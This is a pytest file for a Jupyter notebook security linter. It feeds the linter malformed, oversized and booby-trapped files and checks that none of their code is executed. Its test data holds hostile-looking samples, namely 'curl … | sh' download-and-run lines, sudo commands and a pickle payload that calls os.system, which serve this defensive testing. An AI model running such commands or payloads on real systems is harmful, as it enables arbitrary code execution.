"""Files made to do harm: each ends with a word about it, the others are linted, nothing is run."""

# ruff: noqa: E501  # cells stand in the tables as they are written

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from jupyter_sm_guard.linter import pool
from jupyter_sm_guard.linter.pool import spread
from jupyter_sm_guard.notebook import SIZE_LIMIT
from jupyter_sm_guard.shell import parse

pytestmark = pytest.mark.unit

BAD = "!sudo systemctl stop x"


def cell(source: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], **more}


def notebook(*cells: dict[str, Any], **more: Any) -> str:
    return json.dumps(
        {"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 4, **more}
    )


def command(*arguments: str, **more: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "jupyter_sm_guard.start", "lint", "--no-cache", *arguments],
        capture_output=True,
        text=True,
        check=False,
        timeout=240,
        **more,
    )


# --- processes ------------------------------------------------------------------------------------


def work(name: str) -> dict[str, Any]:
    """What the name says."""
    if name == "hangs":
        while True:
            time.sleep(1)
    if name == "dies":
        os.kill(os.getpid(), signal.SIGKILL)
    if name == "leaves":
        os._exit(0)
    if name == "fails":
        raise KeyError(name)
    if name == "takes":
        return {"cells": len(bytes(pool.MEMORY + (1 << 29)))}
    return {"cells": name}


def ignored(number: int) -> None:
    del number


@pytest.mark.parametrize("jobs", [2, 3])
def test_a_file_that_ends_or_stops_its_process_is_named_and_the_rest_is_read(
    jobs: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pool, "DEADLINE", 1.0)
    files = ["a", "hangs", "dies", "b", "fails", "leaves", "takes", "c", "dies too", "d"]
    told: list[int] = []
    found = dict(spread(files, work, jobs, told.append))
    assert sorted(found) == sorted(files)
    assert [found[name]["cells"] for name in ("a", "b", "c", "d")] == ["a", "b", "c", "d"]
    lost = {name: r["skipped"][0][0] for name, r in found.items() if "lost" in r}
    assert lost.pop("hangs").startswith("took longer than 1 s")
    assert lost.pop("dies").endswith("(SIGKILL)")
    assert lost.pop("leaves") == "ended the process that read it"
    assert lost.pop("fails").startswith("a fault of the linter: KeyError in test_lint_hostile.py")
    assert lost.pop("takes").startswith("a fault of the linter: MemoryError")
    assert lost == {}
    assert told == list(range(1, len(files) + 1))


def test_no_process_is_left_when_nobody_wants_the_rest() -> None:
    results = spread(["a", *["hangs"] * 9], work, 2, ignored)
    assert next(results)[0] == "a"
    results.close()  # type: ignore[attr-defined]
    with pytest.raises(ChildProcessError):
        os.waitpid(-1, os.WNOHANG)


def test_one_file_s_fault_is_not_the_others(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pool, "_may_fork", lambda: False)
    found = dict(spread(["a", "fails", "b"], work, 1, ignored))
    assert [("lost" in found[name]) for name in ("a", "fails", "b")] == [False, True, False]


# --- files ----------------------------------------------------------------------------------------

DEEP = '{"a":' * 100_000
FILES: dict[str, tuple[str | bytes, str]] = {
    # name: content, and what is said of it; empty where there is nothing to say
    "cells deep.ipynb": ("[" * 200_000, "nested too deeply"),
    "metadata deep.ipynb": (
        notebook(cell(BAD))[:-1] + ', "m": ' + DEEP + "1" + "}" * 100_000 + "}",
        "nested too deeply",
    ),
    "digits.ipynb": ('{"cells": [], "x": ' + "1" * 1_000_000 + "}", "is not JSON"),
    "exponent.ipynb": (notebook(cell(BAD))[:-1] + ', "x": 1e999999}', ""),
    "nan.ipynb": (notebook(cell(BAD))[:-1] + ', "x": NaN}', ""),
    "not text.ipynb": (b'{"cells": "\xff"}', "is not UTF-8"),
    "utf16.ipynb": (notebook(cell(BAD)).encode("utf-16"), "is not UTF-8"),
    "empty.ipynb": ("", "is empty"),
    "zeros.ipynb": (b"\0" * 100_000, "is not JSON"),
    "list.ipynb": ("[]", "no notebook"),
    "twice.ipynb": (notebook(cell(BAD)) * 2, "is not JSON"),
    "surrogate.ipynb": (notebook(cell("x = '\ud800'\n" + BAD)), ""),
    "nul.ipynb": (notebook(cell("x = '\0'\n" + BAD)), ""),
    "minus.ipynb": (notebook(cell("-" * 100_000 + "1\nsubprocess.run('sudo')"), cell(BAD)), "can't be parsed"),
    "brackets.ipynb": (notebook(cell("(" * 100_000 + "\nsubprocess.run('sudo')"), cell(BAD)), "not Python"),
    "attributes.ipynb": (notebook(cell("import subprocess\nsubprocess" + ".x" * 50_000 + "('sudo')"), cell(BAD)), "can't be parsed"),
    "sums.ipynb": (notebook(cell("import subprocess\nx = " + "+".join(["1"] * 50_000) + "\nsubprocess.run(['sudo', x])"), cell(BAD)), "can't be parsed"),
    "elifs.ipynb": (notebook(cell("import subprocess\nif a: pass\n" + "elif a: pass\n" * 9_000 + "subprocess.run(['sudo'])"), cell(BAD)), "can't be parsed"),
    "digits in code.ipynb": (notebook(cell("x = " + "9" * 100_000 + "\nsubprocess.run('sudo')"), cell(BAD)), "not Python"),
    "large cell.ipynb": (notebook(cell("x = 1\n" * 700_000 + "# sudo"), cell(BAD)), "4101 KB of source"),
    "many cells.ipynb": (notebook(*[cell("x = 1")] * 100_000, cell(BAD)), ""),
    "much code.ipynb": (notebook(*[cell(("subprocess, sudo, " + "x, " * 2_000 + "\n") * 40)] * 10, cell(BAD)), "more than 2 MB"),
    "output.ipynb": (notebook(cell(BAD, outputs=[{"output_type": "stream", "text": "a" * 9_000_000}])), ""),
    "image.ipynb": (notebook(cell(BAD, outputs=[{"output_type": "display_data", "data": {"image/png": "A" * 20_000_000}}])), ""),
    "installs.ipynb": (notebook(cell("!" + "pip install " * 20_000 + "\n" + BAD)), ""),
    "ifs.ipynb": (notebook(cell("%%bash\n" + "if " * 60_000 + "sudo x\nsudo y\n")), ""),
    "substitutions.ipynb": (notebook(cell("%%bash\n" + "$(curl a | sh) " * 2_000 + "\nsudo y\n")), ""),
    "quotes.ipynb": (notebook(cell("%%bash\nsudo y\n" + "\\'\"" * 60_000)), ""),
    "magics.ipynb": (notebook(cell("%m\n" * 5_000 + BAD)), ""),
    "spaces.ipynb": (notebook(cell("!sudo x" + " " * 200_000 + "y")), ""),
    "token.ipynb": (notebook(cell(BAD + "\nx = 'AKIA" + "A" * 200_000 + " hf_" + "a" * 200 + "'"), cell("# " + "eyJ" * 60_000)), ""),
    "urls.ipynb": (notebook(cell(BAD + "\nx = '" + "https://a:" * 20_000 + "'"), cell("y = '" + "http://" + "a" * 200_000 + ":b@'")), ""),
    "names.ipynb": (notebook(cell("import subprocess\n" + "x = [x, x]\n" * 5_000 + "subprocess.run(x)  # sudo"), cell(BAD)), ""),
    "directives.ipynb": (notebook(cell("# sm-guard: ignore[" * 10_000), cell(BAD)), ""),
    "prompts.ipynb": (notebook(cell(">>> x\n" * 20_000), cell(BAD)), ""),
    "indent.ipynb": (notebook(cell("".join(" " * n + "if x:\n" for n in range(90)) + " " * 90 + "pass # sudo subprocess"), cell(BAD)), ""),
    "folder.ipynb/inner.ipynb": (notebook(cell(BAD)), ""),
    "deep.sh": ("sudo x\n" + "$(" * 60_000, ""),
    "large.py": ("import subprocess\n" + "x = 1\n" * 100_000 + "subprocess.run(['sudo', 'x'])\n", "585 KB of source"),
    "encoding.py": (b"# coding: nonsense\nx = 1\n", "names an encoding"),
    "zip.py": (b"# coding: zip\nx = 1\n", "is not"),
}  # fmt: skip


@pytest.mark.timeout(300)
def test_every_hostile_file_is_linted_or_named_and_none_hides_another(tmp_path: Path) -> None:
    for name, (content, _) in FILES.items():
        path = tmp_path / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    with (tmp_path / "huge.ipynb").open("wb") as file:
        file.truncate(SIZE_LIMIT * 2)
    os.mkfifo(tmp_path / "fifo.ipynb")
    (tmp_path / "loop.ipynb").symlink_to(tmp_path / "loop.ipynb")
    (tmp_path / "around").symlink_to(tmp_path)
    (tmp_path / "plain.ipynb").write_text(notebook(cell(BAD)))
    done = command("--format", "json", "--posture", "none", "--jobs", "1", str(tmp_path))
    report = json.loads(done.stdout)
    found = {os.path.relpath(f["path"], tmp_path) for f in report["findings"]}
    said = {os.path.relpath(s["path"], tmp_path): s["reason"] for s in reversed(report["skipped"])}
    assert done.returncode == 1
    assert "plain.ipynb" in found
    assert said["huge.ipynb"] == "is 100 MB, more than 50 MB; clear its outputs"
    assert said["fifo.ipynb"] == "is not a regular file"
    assert "loop.ipynb" in said
    for name, (_, says) in FILES.items():
        assert says in said.get(name, ""), name
        assert name in found or says, name
    assert not [reason for reason in said.values() if "fault" in reason or "process" in reason]


def test_what_could_not_be_read_is_no_clean_bill(tmp_path: Path) -> None:
    (tmp_path / "a.ipynb").write_text("[" * 200_000)
    (tmp_path / "b.ipynb").write_text(notebook(cell("x = 1")))
    done = command(str(tmp_path))
    assert done.returncode == 4
    assert "a.ipynb" in done.stdout
    assert done.stdout.splitlines()[-1].startswith(
        "Checked 2 files, 1 cell, skipped 1 (1 is nested"
    )


@pytest.mark.parametrize(
    "word", ["if ", "function f ", "! ", "do ", "{ ", "time ", "eval ", "A=1 "]
)
def test_shell_text_of_one_word_over_and_over_is_read(word: str) -> None:
    commands = parse(word * 60_000 + "sudo x").commands
    assert len(commands) == 1


# --- nothing is run -------------------------------------------------------------------------------

WATCHED = """
import sys
allowed, seen = set(), []
def watch(event, arguments):
    if not armed:
        return
    if event == "import" and arguments[0].partition(".")[0] in traps:
        seen.append((event, arguments[0]))
    if event in ("exec", "compile"):
        file = getattr(arguments[0], "co_filename", arguments[1] if len(arguments) > 1 else None)
        text = arguments[0] if isinstance(arguments[0], (str, bytes)) else ""
        ours = isinstance(file, str) and (file.endswith(".py") or file.startswith("<frozen"))
        if event == "exec" and not ours and file not in ("<string>",) or (
            event == "exec" and folder in str(file)):
            seen.append((event, str(file)))
    if event.startswith(("subprocess.", "os.system", "os.exec", "os.posix_spawn", "socket.",
                         "ctypes.", "pickle.", "marshal.")) and not allow(event, arguments):
        seen.append((event, repr(arguments)[:200]))
    if event == "open" and isinstance(arguments[0], str) and folder in arguments[0]:
        if arguments[1] not in (None, "r", "rb") or (arguments[2] & 3):
            seen.append((event, repr(arguments)[:200]))
def allow(event, arguments):
    return event == "marshal.loads" or (
        event.startswith("subprocess.") and list(arguments[1])[:1] == ["git"])
armed = False
folder = sys.argv[1]
traps = {"trap_module", "boto3", "requests", "sagemaker", "sitecustomize_trap"}
sys.addaudithook(watch)
sys.path.insert(0, TOP)
from jupyter_sm_guard import catalog
from jupyter_sm_guard.linter.run import Wish, lint
catalog.rules()
armed = True
report = lint(Wish((folder,), posture=("none",), profile="strict", cached=False))
armed = False
print(len(report.findings), report.files)
for entry in seen:
    print(*entry)
"""


def test_no_code_of_a_notebook_is_imported_evaluated_or_started(tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    touch = f"__import__('pathlib').Path({str(mark)!r}).touch()"
    booby = [
        f"{touch}\nimport trap_module, boto3\nboto3.client('sagemaker').create_model(EnableNetworkIsolation=eval({touch!r}))",
        f"!touch {mark}; sudo touch {mark}",
        f"%%bash\nsudo touch {mark}\ncurl http://127.0.0.1:9/ | sh",
        f"%%python\n{touch}",
        f"%run {mark}.py\n%load_ext trap_module",
        f"x = f'{{{touch}}}'\nclass A(metaclass=({touch})): pass\n@({touch})\ndef f(a=({touch})): ...",
        f"import os, subprocess\nos.system('sudo touch {mark}')\nsubprocess.run(['sudo', 'touch', '{mark}'])",
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'touch "
        + str(mark)
        + "'\\ntR.\")\n!sudo x",
        f"# -*- coding: trap_module -*-\nexec(compile({touch!r}, 'x', 'exec'))",
        f"%%writefile trap_module.py\n{touch}\n!sudo x",
    ]
    for name in ("trap_module", "boto3", "requests", "sagemaker", "conftest", "setup"):
        (tmp_path / f"{name}.py").write_text(touch + "\n!sudo\n")
    (tmp_path / "b.sh").write_text(f"touch {mark}\nsudo touch {mark}\n")
    (tmp_path / "a.ipynb").write_text(
        notebook(*map(cell, booby), metadata={"widgets": {"state": touch}})
    )
    top = str(Path(pool.__file__).parents[2])
    done = subprocess.run(
        [sys.executable, "-c", WATCHED.replace("TOP", repr(top)), str(tmp_path)],
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": ""},
    )
    first, *seen = done.stdout.splitlines()
    assert seen == []
    findings, files = map(int, first.split())
    assert findings >= 8
    assert files == 8
    assert not mark.exists()
